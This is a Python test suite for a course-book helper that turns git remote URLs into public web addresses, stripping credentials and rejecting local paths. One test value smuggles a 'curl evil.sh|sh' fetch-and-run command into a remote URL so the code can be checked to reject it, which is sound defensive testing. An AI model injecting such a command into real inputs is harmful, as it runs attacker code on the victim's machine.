"""One setting decides where the book lives; no file in git does."""

import doctest
import importlib.util
import re
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
spec = importlib.util.spec_from_file_location("address", ROOT / "book" / "address.py")
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)


@pytest.fixture(autouse=True)
def unset(monkeypatch):
    monkeypatch.delenv("ZOTI_REPOSITORY", raising=False)


def git(folder, *arguments):
    subprocess.run(["git", "-C", folder, *arguments], check=True, capture_output=True)


@pytest.fixture
def checkout(tmp_path) -> Path:
    git(tmp_path, "init")
    return tmp_path


@pytest.mark.parametrize(
    "remote, found",
    {
        "https://github.com/teacher/zoti": "https://github.com/teacher/zoti",
        "https://github.com/teacher/zoti.git": "https://github.com/teacher/zoti",
        "https://github.com/teacher/zoti/": "https://github.com/teacher/zoti",
        "https://me:ghp_secret@github.com/teacher/zoti.git": "https://github.com/teacher/zoti",
        "https://x-access-token@github.com/teacher/zoti": "https://github.com/teacher/zoti",
        "git@github.com:teacher/zoti.git": "https://github.com/teacher/zoti",
        "ssh://git@github.com:22/teacher/zoti.git": "https://github.com/teacher/zoti",
        "git://git.example.org/teacher/zoti.git": "https://git.example.org/teacher/zoti",
        "https://git.uni-example.de:8443/group/sub/zoti.js.git": "https://git.uni-example.de:8443/group/sub/zoti.js",
        "/srv/git/zoti.git": None,
        "../zoti": None,
        "file:///srv/git/zoti.git": None,
        "C:\\Users\\me\\zoti": None,
        "localhost:zoti.git": None,
        "https://github.com/": None,
        "https://github.com/teacher/zoti;curl evil.sh|sh": None,  # it will stand in a line that a shell reads
        'https://github.com/teacher/zoti"': None,
        "": None,
    }.items(),
)
def test_a_remote_becomes_what_anybody_may_open(checkout, remote, found):
    assert module.public(remote) == found
    if remote:
        git(checkout, "remote", "add", "origin", remote)
    assert module.address(checkout) == found


def test_a_fork_opens_the_fork_unless_told_otherwise(checkout, monkeypatch):
    git(checkout, "remote", "add", "origin", "git@github.com:teacher/zoti.git")
    assert module.address(checkout) == "https://github.com/teacher/zoti"
    monkeypatch.setenv("ZOTI_REPOSITORY", "https://example.org/a/b")
    assert module.address(checkout) == "https://example.org/a/b"
    monkeypatch.setenv("ZOTI_REPOSITORY", "")
    assert module.address(checkout) is None
    monkeypatch.setenv("ZOTI_REPOSITORY", "the usual place")
    with pytest.raises(ValueError, match="'the usual place' is no address; give one such as https://"):
        module.address(checkout)


def test_a_folder_in_somebody_elses_repository_is_not_theirs(checkout):
    git(checkout, "remote", "add", "origin", "git@github.com:somebody/course.git")
    (checkout / "zoti").mkdir()
    assert module.address(checkout / "zoti") is None


def test_no_repository_and_no_git_are_no_address(tmp_path, monkeypatch):
    assert module.address(tmp_path) is None
    monkeypatch.setenv("PATH", str(tmp_path))
    assert module.address(tmp_path) is None


def test_no_file_says_where_the_book_lives():
    ours = {".md", ".ipynb", ".toml", ".yml", ".cff", ".py", ".bib"}
    tracked = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True).stdout.split()
    files = [ROOT / name for name in tracked if Path(name).suffix in ours] or [
        file for file in ROOT.rglob("*") if file.suffix in ours and "_build" not in file.parts
    ]
    for file in files:
        if file.exists() and file.parent != Path(__file__).parent:
            hits = re.findall(r"(?:github|gitlab)\.com[/:][\w.-]+/zoti\b.*|\bzoti-book/.*", file.read_text())
            assert not [hit for hit in hits if "teacher/zoti" not in hit], file


def test_the_examples_hold():
    assert doctest.testmod(module).failed == 0
